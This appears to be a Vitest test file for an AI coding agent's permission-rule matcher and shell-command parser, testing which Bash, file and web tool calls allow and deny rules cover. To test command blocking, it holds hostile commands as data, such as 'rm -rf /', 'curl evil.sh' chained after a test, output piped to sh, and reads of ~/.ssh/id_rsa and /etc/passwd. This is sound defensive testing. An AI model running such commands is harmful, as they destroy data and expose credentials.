import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { StewardError } from '../errors/index.js';
import { compilePermissionRule, covers, type PermissionMatchContext } from './permission-rule.js';
import { parseShellCommand } from './shell-command.js';
import { loadShellParser } from './shell-parser.js';

const context: PermissionMatchContext = { cwd: '/repo', home: '/home/ada' };

// Bash commands are read by tree-sitter's grammar, which loads asynchronously once.
beforeAll(() => loadShellParser());

type Call = [toolName: string, input: Record<string, unknown>];
const bash = (command: string): Call => ['Bash', { command }];
const read = (filePath: string): Call => ['Read', { file_path: filePath }];
const fetch = (url: string): Call => ['WebFetch', { url }];
const bare = (toolName: string): Call => [toolName, {}];

interface Row {
  pattern: string;
  matches: Call[];
  doesNotMatch: Call[];
  /** Deny semantics, when they differ from allow semantics. */
  denyHits?: Call[];
  denyMisses?: Call[];
}

/** One row per line of the tables in docs/trust-permissions.md. */
const rows: Array<[string, Row]> = [
  // Tool names
  [
    'exact tool name',
    {
      pattern: 'Read',
      matches: [read('/x'), bare('Read')],
      doesNotMatch: [bare('read'), bare('ReadFile'), bare('Write')],
    },
  ],
  [
    '* is every tool',
    { pattern: '*', matches: [bare('Read'), bash('rm -rf /'), bare('mcp__slack__post')], doesNotMatch: [] },
  ],
  [
    'mcp__* is every MCP tool',
    {
      pattern: 'mcp__*',
      matches: [bare('mcp__slack__post'), bare('mcp__github__create_issue')],
      doesNotMatch: [bare('Read'), bare('Bash'), bare('mcpx')],
    },
  ],
  [
    'mcp__slack__* is one server',
    {
      pattern: 'mcp__slack__*',
      matches: [bare('mcp__slack__post'), bare('mcp__slack__read_channel')],
      doesNotMatch: [bare('mcp__slack'), bare('mcp__slackbot__post'), bare('mcp__github__post')],
    },
  ],
  [
    'mcp__slack is the whole server',
    {
      pattern: 'mcp__slack',
      matches: [bare('mcp__slack__post'), bare('mcp__slack')],
      doesNotMatch: [bare('mcp__slackbot__post'), bare('mcp__slackbot')],
    },
  ],
  [
    'mcp__slack__post is one MCP tool',
    {
      pattern: 'mcp__slack__post',
      matches: [bare('mcp__slack__post')],
      doesNotMatch: [bare('mcp__slack__post_message'), bare('mcp__slack__postx')],
    },
  ],
  [
    'MCP server names may hold _',
    {
      pattern: 'mcp__my_server__*',
      matches: [bare('mcp__my_server__post'), bare('mcp__my_server__read_all')],
      doesNotMatch: [bare('mcp__my__server_post'), bare('mcp__my_serverx__post'), bare('mcp__my_server')],
    },
  ],
  [
    'an MCP tool name splits at the first __ after mcp__',
    {
      pattern: 'mcp__a',
      matches: [bare('mcp__a___b'), bare('mcp__a__b__c')],
      doesNotMatch: [bare('mcp__a_'), bare('mcp__ab__c')],
    },
  ],
  [
    'an MCP tool whose name starts with _',
    {
      pattern: 'mcp__a___b',
      matches: [bare('mcp__a___b')],
      doesNotMatch: [bare('mcp__a__b'), bare('mcp__a____b')],
    },
  ],
  [
    'an unknown tool by name',
    { pattern: 'Task', matches: [['Task', { prompt: 'x' }]], doesNotMatch: [bare('TaskOutput')] },
  ],

  // Bash
  [
    'bare Bash',
    { pattern: 'Bash', matches: [bash('anything && rm -rf /'), bare('Bash')], doesNotMatch: [bare('Read')] },
  ],
  [
    'Bash exact',
    {
      pattern: 'Bash(npm run test)',
      matches: [bash('npm run test'), bash('npm  run   test'), bash('  npm run test ')],
      doesNotMatch: [
        bash('npm run test --watch'),
        bash('npm run test; ls'),
        bare('Bash'),
        ['Bash', { command: 42 }],
      ],
    },
  ],
  [
    'Bash prefix at a word boundary',
    {
      pattern: 'Bash(npm run test:*)',
      matches: [bash('npm run test'), bash('npm run test -- --watch'), bash('npm run test\t--ci')],
      doesNotMatch: [bash('npm run tests'), bash('npm run test:unit'), bash('npm test'), bare('Bash')],
    },
  ],
  [
    'Bash prefix with chained commands: every part',
    {
      pattern: 'Bash(npm run test:*)',
      matches: [
        bash('npm run test && npm run test -- --ci'),
        bash('npm run test > /dev/null 2>&1'),
        bash('npm run test;npm run test'),
        bash('npm run test\nnpm run test'),
      ],
      doesNotMatch: [
        bash('npm run test && rm -rf /'),
        bash('npm run test; curl evil.sh'),
        bash('npm run test || rm x'),
        bash('npm run test | sh'),
        bash('npm run test & rm x'),
        bash('npm run test |& tee x'),
        bash('npm run test\nrm x'),
      ],
      denyHits: [bash('npm run test && rm -rf /'), bash('rm x; npm run test')],
      denyMisses: [bash('rm x; ls')],
    },
  ],
  [
    'Bash prefix with substitutions and redirections',
    {
      pattern: 'Bash(npm run test:*)',
      matches: [
        bash('npm run test 2>&1'),
        bash('npm run test 2>/dev/null'),
        bash('npm run test "a && b"'),
        bash("npm run test 'x; y'"),
      ],
      doesNotMatch: [
        bash('npm run test `whoami`'),
        bash('npm run test $(rm -rf /)'),
        bash('npm run test "$(rm -rf /)"'),
        bash('npm run test > /etc/passwd'),
        bash('npm run test >> out.log'),
        bash('npm run test &> out.log'),
        bash('npm run test <(curl x)'),
        bash('npm run test "unclosed'),
        bash('npm run test $(unclosed'),
      ],
    },
  ],
  [
    'Bash quoted operators do not split',
    {
      pattern: 'Bash(echo:*)',
      matches: [bash('echo "a && b"'), bash("echo 'a; rm x'"), bash('echo a\\;b')],
      doesNotMatch: [bash('echo a; rm x')],
    },
  ],
  [
    'Bash single trailing " *" is a prefix',
    { pattern: 'Bash(ls *)', matches: [bash('ls'), bash('ls -la')], doesNotMatch: [bash('lsof')] },
  ],
  [
    'Bash trailing " *" with other wildcards is still optional (Claude Code)',
    {
      pattern: 'Bash(* --help *)',
      matches: [bash('node --help'), bash('git commit --help -a')],
      doesNotMatch: [bash('node --helpx'), bash('node --version')],
    },
  ],
  [
    'Bash(*) is every command, as Bash is',
    {
      pattern: 'Bash(*)',
      matches: [bash('echo $(date)'), bash('npm test && rm -rf /'), bash('echo hi > out'), bash('$X')],
      doesNotMatch: [bare('Read')],
    },
  ],
  [
    'Bash quotes and escapes do not matter',
    {
      pattern: 'Bash(git status)',
      matches: [bash('git "status"'), bash('\\git status'), bash("g'i't status")],
      doesNotMatch: [bash('git status --short'), bash('/usr/bin/git status')],
      denyHits: [bash('/usr/bin/git status'), bash('sudo git status')],
    },
  ],
  [
    'Bash process wrappers are looked through (Claude Code)',
    {
      pattern: 'Bash(npm test *)',
      matches: [
        bash('timeout 30 npm test'),
        bash('nice -n 5 nohup npm test -- --ci'),
        bash('time npm test'),
        bash('stdbuf -oL npm test'),
        bash('xargs npm test'),
      ],
      doesNotMatch: [
        bash('sudo npm test'),
        bash('bash -c "npm test"'),
        bash('timeout 30 rm x'),
        bash('echo x | xargs -I{} npm test {} && rm y'),
      ],
    },
  ],
  [
    'Bash exec wrappers are never allowed by a prefix rule (Claude Code)',
    {
      pattern: 'Bash(find:*)',
      matches: [bash('find . -name "*.ts"')],
      doesNotMatch: [
        bash('find . -exec rm {} \\;'),
        bash('find . -name x -delete'),
        bash('find . -execdir ls \\;'),
      ],
    },
  ],
  [
    'Bash ls* wildcard',
    {
      pattern: 'Bash(ls*)',
      matches: [bash('ls'), bash('lsof'), bash('ls -la')],
      doesNotMatch: [bash('cat')],
    },
  ],
  [
    'Bash wildcards anywhere, spaces literal',
    {
      pattern: 'Bash(git * main)',
      matches: [bash('git checkout main'), bash('git merge --ff-only main')],
      doesNotMatch: [bash('git checkout dev'), bash('git main'), bash('git checkout main && rm x')],
    },
  ],
  [
    'Bash exact with operators',
    {
      pattern: 'Bash(npm ci && npm test)',
      matches: [bash('npm ci && npm test'), bash('npm ci&&npm test')],
      doesNotMatch: [bash('npm ci'), bash('npm ci && npm test && rm x')],
    },
  ],
  [
    'Bash deny rules hit any part',
    {
      pattern: 'Bash(rm:*)',
      matches: [bash('rm -rf /')],
      doesNotMatch: [bash('npm test && rm -rf /')],
      denyHits: [
        bash('rm -rf /'),
        bash('npm test && rm -rf /'),
        bash('echo $(rm -rf /)'),
        bash('echo `rm -rf /`'),
        bash('echo "$(rm -rf /)"'),
        bash('FOO=1 nohup rm x'),
        bash('(cd x && rm y)'),
        bash('xargs rm'),
        bash('timeout 5 rm x'),
        bash('sudo -n rm x'),
        ['Bash', {}],
      ],
      denyMisses: [bash('rmdir x'), bash('npm run rm-cache'), bash('echo rm')],
    },
  ],

  // Paths
  [
    'relative path glob with **',
    {
      pattern: 'Read(./docs/**)',
      matches: [read('/repo/docs/a.md'), read('/repo/docs/a/b/c.md'), read('docs/a.md'), read('/repo/docs')],
      doesNotMatch: [
        read('/repo/docs/../secrets/x'),
        read('./docs/../secrets/x'),
        read('/repo/docsx/a'),
        read('/other/docs/a.md'),
        bare('Read'),
      ],
      denyHits: [read('/repo/docs/a.md'), bare('Read')],
      denyMisses: [read('./docs/../secrets/x')],
    },
  ],
  [
    'relative path without ./',
    {
      pattern: 'Read(docs/**)',
      matches: [read('/repo/docs/a.md')],
      doesNotMatch: [read('/repo/src/docs/a.md')],
    },
  ],
  [
    '* stays in one folder',
    {
      pattern: 'Read(docs/*.md)',
      matches: [read('/repo/docs/a.md')],
      doesNotMatch: [read('/repo/docs/sub/a.md'), read('/repo/docs/a.txt')],
    },
  ],
  [
    'a slash-less glob is anchored',
    {
      pattern: 'Edit(*.md)',
      matches: [['Edit', { file_path: '/repo/README.md' }]],
      doesNotMatch: [['Edit', { file_path: '/repo/docs/a.md' }]],
    },
  ],
  [
    'leading **/ crosses zero or more folders',
    {
      pattern: 'Read(**/.env)',
      matches: [read('/repo/.env'), read('/repo/a/b/.env')],
      doesNotMatch: [read('/repo/.env.local'), read('/etc/.env')],
    },
  ],
  [
    'trailing slash is the folder and its contents',
    {
      pattern: 'Write(docs/)',
      matches: [
        ['Write', { file_path: '/repo/docs/a.md' }],
        ['Write', { file_path: '/repo/docs' }],
      ],
      doesNotMatch: [['Write', { file_path: '/repo/docs2/a.md' }]],
    },
  ],
  [
    'single leading slash is relative',
    { pattern: 'Read(/src/**)', matches: [read('/repo/src/a.ts')], doesNotMatch: [read('/src/a.ts')] },
  ],
  [
    '// is absolute',
    {
      pattern: 'Read(//etc/**)',
      matches: [read('/etc/passwd'), read('/etc/ssl/cert.pem')],
      doesNotMatch: [read('/repo/etc/x')],
    },
  ],
  [
    '~/ is home',
    {
      pattern: 'Read(~/.ssh/**)',
      matches: [read('/home/ada/.ssh/id_rsa'), read('~/.ssh/id_rsa')],
      doesNotMatch: [read('/repo/.ssh/id_rsa')],
    },
  ],
  [
    'leading .. climbs from the working directory',
    { pattern: 'Read(../shared/**)', matches: [read('/shared/x')], doesNotMatch: [read('/repo/shared/x')] },
  ],
  [
    'character classes and ?',
    {
      pattern: 'Read(./log-[0-9]?.txt)',
      matches: [read('/repo/log-12.txt')],
      doesNotMatch: [read('/repo/log-a1.txt'), read('/repo/log-1/2.txt')],
    },
  ],
  [
    'Grep matches the folder it searches',
    {
      pattern: 'Grep(./src/**)',
      matches: [
        ['Grep', { pattern: 'x', path: '/repo/src' }],
        ['Grep', { pattern: 'x', path: 'src/lib' }],
      ],
      doesNotMatch: [
        ['Grep', { pattern: 'x' }],
        ['Grep', { pattern: 'x', path: '/repo' }],
      ],
    },
  ],
  [
    'Glob patterns that escape their path',
    {
      pattern: 'Glob(./src/**)',
      matches: [['Glob', { pattern: '**/*.ts', path: 'src' }]],
      doesNotMatch: [
        ['Glob', { pattern: '../**', path: 'src' }],
        ['Glob', { pattern: '/etc/*', path: 'src' }],
      ],
      denyHits: [['Glob', { pattern: '/etc/*', path: 'src' }]],
    },
  ],
  [
    'NotebookEdit notebook_path',
    {
      pattern: 'NotebookEdit(./nb/**)',
      matches: [['NotebookEdit', { notebook_path: '/repo/nb/a.ipynb' }]],
      doesNotMatch: [['NotebookEdit', { notebook_path: '/repo/a.ipynb' }]],
    },
  ],
  [
    'MultiEdit file_path',
    {
      pattern: 'MultiEdit(src/**)',
      matches: [['MultiEdit', { file_path: '/repo/src/a.ts', edits: [] }]],
      doesNotMatch: [['MultiEdit', { file_path: '/repo/b.ts' }]],
    },
  ],

  // WebFetch and other tools
  [
    'WebFetch domain is exact',
    {
      pattern: 'WebFetch(domain:example.com)',
      matches: [fetch('https://example.com/a'), fetch('http://EXAMPLE.com:8080/')],
      doesNotMatch: [
        fetch('https://api.example.com'),
        fetch('https://example.com.evil.net'),
        fetch('not a url'),
        fetch('ftp://example.com'),
        bare('WebFetch'),
      ],
      denyHits: [fetch('not a url')],
    },
  ],
  [
    'WebFetch *. opts in to subdomains',
    {
      pattern: 'WebFetch(domain:*.example.com)',
      matches: [fetch('https://api.example.com'), fetch('https://a.b.example.com')],
      doesNotMatch: [fetch('https://example.com')],
    },
  ],
  [
    'WebSearch with a specifier never matches',
    {
      pattern: 'WebSearch(anything)',
      matches: [],
      doesNotMatch: [['WebSearch', { query: 'anything' }]],
      denyMisses: [['WebSearch', { query: 'anything' }]],
    },
  ],
  [
    'Task with a specifier never matches',
    {
      pattern: 'Task(explorer)',
      matches: [],
      doesNotMatch: [['Task', { subagent_type: 'explorer' }]],
      denyMisses: [['Task', { subagent_type: 'explorer' }]],
    },
  ],
  [
    'an MCP tool with a specifier never matches',
    {
      pattern: 'mcp__slack__post(#general)',
      matches: [],
      doesNotMatch: [['mcp__slack__post', { channel: '#general' }]],
    },
  ],
];

describe('compilePermissionRule: the grammar table', () => {
  it.each(rows)('%s', (_name, row) => {
    const rule = compilePermissionRule(row.pattern);
    for (const [toolName, input] of row.matches) {
      expect(
        rule.matches(toolName, input, context),
        `${row.pattern} should match ${toolName} ${JSON.stringify(input)}`,
      ).toBe(true);
    }
    for (const [toolName, input] of row.doesNotMatch) {
      expect(
        rule.matches(toolName, input, context),
        `${row.pattern} should not match ${toolName} ${JSON.stringify(input)}`,
      ).toBe(false);
    }
    const denyHits = row.denyHits ?? row.matches;
    for (const [toolName, input] of denyHits) {
      expect(
        rule.matchesForDeny(toolName, input, context),
        `deny ${row.pattern} should hit ${JSON.stringify(input)}`,
      ).toBe(true);
    }
    for (const [toolName, input] of row.denyMisses ?? []) {
      expect(
        rule.matchesForDeny(toolName, input, context),
        `deny ${row.pattern} should miss ${JSON.stringify(input)}`,
      ).toBe(false);
    }
  });

  it('matches nothing under ~/ without a home directory', () => {
    const rule = compilePermissionRule('Read(~/.ssh/**)');
    expect(rule.matches('Read', { file_path: '/home/ada/.ssh/id_rsa' }, { cwd: '/repo' })).toBe(false);
    expect(rule.matchesForDeny('Read', { file_path: '/home/ada/.ssh/id_rsa' }, { cwd: '/repo' })).toBe(false);
    // An input path under ~ that cannot be resolved is hit by every path deny rule.
    expect(
      compilePermissionRule('Read(./x/**)').matchesForDeny('Read', { file_path: '~/a' }, { cwd: '/repo' }),
    ).toBe(true);
  });

  it('keeps the pattern, tool, kind and specifier', () => {
    expect(compilePermissionRule(' Bash( npm run test:* ) ')).toMatchObject({
      pattern: ' Bash( npm run test:* ) ',
      tool: 'Bash',
      kind: 'tool-specifier',
      specifier: 'npm run test:*',
    });
    expect(compilePermissionRule('mcp__slack')).toMatchObject({ kind: 'mcp-server', tool: 'mcp__slack' });
    expect(compilePermissionRule('mcp__slack__*').kind).toBe('mcp-server-tools');
    expect(compilePermissionRule('mcp__slack__post').kind).toBe('tool');
    expect(compilePermissionRule('*').kind).toBe('any-tool');
    expect(compilePermissionRule('mcp__*').kind).toBe('any-mcp-tool');
    expect(compilePermissionRule('Read').specifier).toBeUndefined();
  });
});

describe('compilePermissionRule: malformed patterns', () => {
  it.each([
    '',
    '   ',
    'Bash(',
    'Bash(x)y',
    '()',
    '(x)',
    'Bash()',
    'Bash(  )',
    'Re*d',
    'mcp__sl*',
    'mcp__*__post',
    'mcp__slack__',
    'mcp__',
    '*(x)',
    'mcp__*(x)',
    'mcp__slack__*(x)',
    'mcp__slack(x)',
    'Bash(:*)',
    'Bash(npm test && *)',
    'Bash(echo $(date):*)',
    'Bash(echo (hi):*)',
    'Bash(echo "unclosed)',
    'mcp__a_',
    'mcp__a___*',
    'Read(~bob/x)',
    'Read(docs/../x)',
    'Read(//../x)',
    'WebFetch(example.com)',
    'WebFetch(domain:https://x.com)',
    'WebFetch(domain:)',
    'Bash (x)',
    'Read)',
  ])('rejects %j with invalid-config naming it', (pattern) => {
    let thrown: unknown;
    try {
      compilePermissionRule(pattern);
    } catch (error) {
      thrown = error;
    }
    expect(StewardError.isInstance(thrown)).toBe(true);
    expect((thrown as StewardError).code).toBe('invalid-config');
    expect((thrown as StewardError).message).toContain(`"${pattern}"`);
    expect((thrown as StewardError).details).toMatchObject({ pattern });
  });
});

describe('parseShellCommand', () => {
  it('reads every command of a chained line, with quotes resolved and redirections apart', () => {
    expect(parseShellCommand('a  "b  c" &&d;e|f 2>/dev/null > out')).toEqual({
      normalized: "a 'b  c' && d ; e | f 2>/dev/null >out",
      segments: [
        { texts: ["a 'b  c'"], redirects: '', unsafe: false },
        { texts: ['d'], redirects: '', unsafe: false },
        { texts: ['e'], redirects: '', unsafe: false },
        { texts: ['f'], redirects: '2>/dev/null >out', unsafe: true },
      ],
      denyTexts: ["a 'b  c'", 'd', 'e', 'f'],
      complete: true,
    });
  });

  it('reads substitutions, nested ones included, for deny rules', () => {
    const parsed = parseShellCommand('echo $(cat $(ls)) `id` <(curl x)');
    expect(parsed.denyTexts).toEqual(
      expect.arrayContaining(['echo $(cat $(ls)) `id` <(curl x)', 'cat $(ls)', 'ls', 'id', 'curl x']),
    );
    expect(parsed.segments).toEqual([
      { texts: ['echo $(cat $(ls)) `id` <(curl x)'], redirects: '', unsafe: true },
    ]);
  });

  it('resolves quotes and escapes, and names path-qualified programs', () => {
    for (const command of ['\\rm x', '"rm" x', 'r""m x', "r''m x", "$'rm' x", "$'\\x72m' x", 'r\\m x']) {
      expect(parseShellCommand(command).denyTexts, command).toContain('rm x');
    }
    expect(parseShellCommand('/bin/rm -rf /').denyTexts).toEqual(['/bin/rm -rf /', 'rm -rf /']);
  });

  it('looks through wrappers, and through process wrappers for allow rules too', () => {
    const parsed = parseShellCommand('FOO=1 timeout -s KILL 5 nice -n 3 npm test');
    expect(parsed.segments[0]!.texts).toEqual([
      'FOO=1 timeout -s KILL 5 nice -n 3 npm test',
      'FOO=1 npm test',
    ]);
    expect(parsed.denyTexts).toEqual(
      expect.arrayContaining(['timeout -s KILL 5 nice -n 3 npm test', 'nice -n 3 npm test', 'npm test']),
    );
    expect(parseShellCommand('sudo -u bob rm x').segments[0]!.texts).toEqual(['sudo -u bob rm x']);
    expect(parseShellCommand('bash -c "rm -rf /"').denyTexts).toContain('rm -rf /');
  });

  it('reports commands whose program cannot be determined', () => {
    expect(parseShellCommand('$X rm').undetermined).toContain('$X');
    expect(parseShellCommand('eval "$CMD"').undetermined).toContain('$CMD');
    expect(parseShellCommand('echo $X').undetermined).toBeUndefined();
  });

  it('marks unclosed quotes and substitutions incomplete', () => {
    expect(parseShellCommand('echo "x').complete).toBe(false);
    expect(parseShellCommand("echo 'x").complete).toBe(false);
    expect(parseShellCommand('echo $(x').complete).toBe(false);
    expect(parseShellCommand('echo `x').complete).toBe(false);
    // tree-sitter-bash reads a line break followed by a backslash as part of the previous word.
    expect(parseShellCommand('true\n\\rm x').complete).toBe(false);
    // It also reads two backquoted words split by a line break as one substitution; the shell runs two.
    expect(parseShellCommand('`id`\n`rm -rf x` y').complete).toBe(false);
    expect(parseShellCommand('`id`\nrm x').complete).toBe(true);
    expect(parseShellCommand('echo `echo \\`date\\``').complete).toBe(true);
  });
});

describe('covers', () => {
  it.each([
    ['*', 'Read'],
    ['*', 'mcp__*'],
    ['*', 'Bash(rm:*)'],
    ['mcp__*', 'mcp__x__*'],
    ['mcp__*', 'mcp__x'],
    ['mcp__*', 'mcp__x__y'],
    ['mcp__*', 'mcp__x__y(z)'],
    ['mcp__*', 'mcp__*'],
    ['mcp__x', 'mcp__x__*'],
    ['mcp__x', 'mcp__x__y'],
    ['mcp__x', 'mcp__x'],
    ['mcp__x__*', 'mcp__x__y'],
    ['mcp__x__*', 'mcp__x__*'],
    ['Read', 'Read'],
    ['Read', 'Read(./docs/**)'],
    ['Task', 'Task(anything)'],
    ['Bash', 'Bash(rm:*)'],
    ['Bash(a:*)', 'Bash(a)'],
    ['Bash(a:*)', 'Bash(a b)'],
    ['Bash(a:*)', 'Bash(a b:*)'],
    ['Bash(a:*)', 'Bash(a b*)'],
    ['Bash(a:*)', 'Bash(a:*)'],
    ['Bash(a:*)', 'Bash(a *)'],
    ['Bash(a:*)', 'Bash(a && a b)'],
    ['Bash(npm run:*)', 'Bash(npm  run test)'],
    ['Bash(git:*)', 'Bash(git * push:*)'],
    ['Bash(*)', 'Bash(npm test:*)'],
    ['Bash(*)', 'Bash(echo hi)'],
    ['Bash(*)', 'Bash(echo $(date))'],
    ['Bash(*)', 'Bash'],
    ['Bash', 'Bash(*)'],
    ['Bash(git * main)', 'Bash(git  *  main)'],
    ['Bash(git * main)', 'Bash(git checkout main)'],
    ['Read(./docs/**)', 'Read(docs/a.md)'],
    ['Read(./docs/**)', 'Read(./docs/x/**)'],
    ['Read(./docs/**)', 'Read(docs/*.md)'],
    ['Read(./docs/**)', 'Read(./docs)'],
    ['Read(docs/)', 'Read(docs/a/b)'],
    ['Read(./**)', 'Read(src/**/*.ts)'],
    ['Read(../**)', 'Read(src/a.ts)'],
    ['Read(~/**)', 'Read(~/.zshrc)'],
    ['Read(//etc/**)', 'Read(//etc/passwd)'],
    ['WebFetch(domain:*.example.com)', 'WebFetch(domain:api.example.com)'],
    ['WebFetch(domain:*.example.com)', 'WebFetch(domain:*.api.example.com)'],
    ['WebFetch(domain:example.com)', 'WebFetch(domain:EXAMPLE.com)'],
    ['Task(explorer)', 'Task(explorer)'],
  ])('%s covers %s', (broader, narrower) => {
    expect(covers(broader, narrower)).toBe(true);
  });

  it.each([
    ['Read', '*'],
    ['mcp__*', '*'],
    ['mcp__*', 'Read'],
    ['mcp__x', 'mcp__xy__z'],
    ['mcp__x', 'mcp__*'],
    ['mcp__x__*', 'mcp__x'],
    ['mcp__x__*', 'mcp__y__z'],
    ['mcp__x__*', 'mcp__*'],
    ['Read', 'Write'],
    ['Read(./docs/**)', 'Read'],
    ['Bash(a:*)', 'Bash'],
    ['Bash(a:*)', 'Bash(ab)'],
    ['Bash(a:*)', 'Bash(a*)'],
    ['Bash(a:*)', 'Bash(a > f)'],
    ['Bash(a:*)', 'Bash(a && c)'],
    ['Bash(a b:*)', 'Bash(a:*)'],
    ['Bash(a)', 'Bash(a:*)'],
    ['Bash(git * main)', 'Bash(git checkout dev)'],
    ['Bash(git * main)', 'Bash(git:*)'],
    ['Read(./docs/**)', 'Read(./src/a.ts)'],
    ['Read(./docs/**)', 'Read(//repo/docs/a.md)'],
    ['Read(./docs/**)', 'Write(./docs/a.md)'],
    ['Read(./docs/*)', 'Read(./docs/a.md)'],
    ['Read(./**)', 'Read(../x)'],
    ['Read(./**)', 'Read(~/x)'],
    ['Read(./**)', 'Read(//x)'],
    ['Read(./docs/**)', 'Read(./docsx/a)'],
    ['WebFetch(domain:*.example.com)', 'WebFetch(domain:example.com)'],
    ['WebFetch(domain:example.com)', 'WebFetch(domain:api.example.com)'],
    ['Task(a)', 'Task(b)'],
  ])('%s does not cover %s', (broader, narrower) => {
    expect(covers(broader, narrower)).toBe(false);
  });

  it('accepts compiled rules as well as strings', () => {
    expect(covers(compilePermissionRule('mcp__*'), compilePermissionRule('mcp__x__y'))).toBe(true);
  });

  // Soundness: whenever covers(a, b) holds, every call b allows is allowed by a.
  const patterns = [
    '*',
    'mcp__*',
    'mcp__slack',
    'mcp__slack__*',
    'mcp__slack__post',
    'mcp__slackbot__*',
    'Read',
    'Write',
    'Bash',
    'Task',
    'Task(explorer)',
    'Bash(npm:*)',
    'Bash(npm run:*)',
    'Bash(npm run test)',
    'Bash(npm run test:*)',
    'Bash(npm run *)',
    'Bash(npm *)',
    'Bash(npm*)',
    'Bash(*)',
    'Bash(git * main)',
    'Bash(npm ci && npm test)',
    'Bash(echo hi > out)',
    'Read(./**)',
    'Read(./docs/**)',
    'Read(docs/*.md)',
    'Read(./docs)',
    'Read(**/.env)',
    'Read(../**)',
    'Read(~/**)',
    'Read(//etc/**)',
    'Write(./docs/**)',
    'Grep(./src/**)',
    'WebFetch',
    'WebFetch(domain:example.com)',
    'WebFetch(domain:*.example.com)',
    'WebFetch(domain:api.example.com)',
  ];
  const calls: Call[] = [
    bare('Read'),
    bare('Task'),
    ['Task', { subagent_type: 'explorer' }],
    bare('mcp__slack'),
    bare('mcp__slack__post'),
    bare('mcp__slackbot__post'),
    bare('mcp__github__x'),
    bash('npm'),
    bash('npm run test'),
    bash('npm run test -- --ci'),
    bash('npm run tests'),
    bash('npm run build'),
    bash('npm ci && npm test'),
    bash('npm run test && rm x'),
    bash('npmx'),
    bash('git checkout main'),
    bash('echo hi > out'),
    bash('npm run test $(id)'),
    read('/repo/docs/a.md'),
    read('/repo/docs'),
    read('/repo/docs/x/y.md'),
    read('/repo/.env'),
    read('/repo/a/.env'),
    read('/etc/passwd'),
    read('/home/ada/.ssh/id'),
    read('/other/x'),
    ['Write', { file_path: '/repo/docs/a.md' }],
    ['Grep', { pattern: 'x', path: 'src' }],
    ['Grep', { pattern: 'x' }],
    fetch('https://example.com'),
    fetch('https://api.example.com'),
    fetch('https://x.api.example.com'),
  ];

  it('never claims a cover that a call contradicts (fast-check)', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...patterns),
        fc.constantFrom(...patterns),
        fc.constantFrom(...calls),
        (a, b, [tool, input]) => {
          if (!covers(a, b)) return true;
          const broader = compilePermissionRule(a);
          const narrower = compilePermissionRule(b);
          return !narrower.matches(tool, input, context) || broader.matches(tool, input, context);
        },
      ),
      { numRuns: 5_000 },
    );
  });

  it('is reflexive', () => {
    for (const pattern of patterns) expect(covers(pattern, pattern), pattern).toBe(true);
  });
});
